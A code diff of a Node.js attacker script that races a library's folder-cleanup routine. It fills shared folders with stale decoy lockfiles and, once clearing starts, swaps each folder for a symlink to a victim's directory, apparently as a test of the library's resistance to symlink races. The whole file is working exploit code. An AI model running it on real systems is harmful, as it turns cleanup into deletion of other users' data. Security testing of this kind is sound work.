@@ -1,40 +1,64 @@
 // @ts-check
 /**
  * An attacker: fills a folder of this library's with names of its own entries, and swaps it for a link to a victim's folder as soon
- * as somebody begins to clear it. Prints how often it did.
+ * as somebody begins to clear it. It ends when it did so often enough, or is told to. Prints how often it did.
  */
-import { closeSync, existsSync, lstatSync, mkdirSync, openSync, renameSync, symlinkSync, utimesSync } from 'node:fs';
+import * as fs from 'node:fs';
 
-const [shared = '', name = '', victim = '', ...names] = process.argv.slice(2);
-const decoy = `${shared}/${name}`;
-const DECOYS = 3000;
+const [shared = '', rounds = '', victim = '', names = '', ...decoys] = process.argv.slice(2);
+const ENTRIES = 200;
 const HOUR_S = 3600;
+/** How long a link stays there, in milliseconds: whoever clears the folder goes on by its name. */
+const SWAPPED_MS = 3;
 
 process.umask(0);
-mkdirSync(decoy, 0o777);
-const entries = Array.from({ length: DECOYS }, (_, i) => i.toString(16).padStart(32, '0'));
+process.chdir(shared);
+const entries = Array.from({ length: ENTRIES }, (_, i) => `vfs-lockfile-${i.toString(16).padStart(32, '0')}`);
 const old = Date.now() / 1000 - 2 * HOUR_S;
-for (const entry of [...entries, ...names]) {
-  closeSync(openSync(`${decoy}/${entry}`, 'w', 0o666));
-  utimesSync(`${decoy}/${entry}`, old, old);
-}
-utimesSync(decoy, old, old);
-closeSync(openSync(`${shared}/attack-ready`, 'w'));
+const nap = new Int32Array(new SharedArrayBuffer(4));
+let swaps = 0;
+let serial = 0;
 
 /** @param {string} path */
-function isThere(path) {
-  return lstatSync(path, { throwIfNoEntry: false }) !== undefined;
-}
+const isThere = (path) => fs.lstatSync(path, { throwIfNoEntry: false }) !== undefined;
+const isOver = () => swaps >= Number(rounds) || fs.existsSync('attack-over');
 
-let swaps = 0;
-while (swaps === 0 && !existsSync(`${shared}/attack-over`)) {
-  if (isThere(`${decoy}/${entries[0]}`)) continue;
+/** @param {() => void} change */
+function worked(change) {
   try {
-    renameSync(decoy, `${decoy}.away`);
-    symlinkSync(victim, decoy);
-    swaps += 1;
+    change();
+    return true;
   } catch {
-    break;
+    return false;
   }
 }
+
+/** @returns a folder of old entries, under a name that nobody looks for */
+function fill() {
+  const made = `mine-${(serial += 1)}`;
+  fs.mkdirSync(made, 0o777);
+  for (const entry of [...entries, ...names.split(',')]) {
+    fs.closeSync(fs.openSync(`${made}/${entry}`, 'w', 0o666));
+    fs.utimesSync(`${made}/${entry}`, old, old);
+  }
+  fs.utimesSync(made, old, old);
+  return made;
+}
+
+/** @param {string} decoy */
+function swapOnce(decoy) {
+  const made = fill();
+  while (!worked(() => fs.renameSync(made, decoy))) if (isOver()) return;
+  while (isThere(`${decoy}/${entries[0]}`)) if (isOver()) return;
+  if (!worked(() => fs.renameSync(decoy, made))) return;
+  if (worked(() => fs.symlinkSync(victim, decoy))) {
+    swaps += 1;
+    Atomics.wait(nap, 0, 0, SWAPPED_MS);
+  }
+  worked(() => fs.unlinkSync(decoy));
+  worked(() => fs.rmSync(made, { recursive: true }));
+}
+
+fs.closeSync(fs.openSync('attack-ready', 'w'));
+while (!isOver()) for (const decoy of decoys) swapOnce(decoy);
 console.log(swaps);
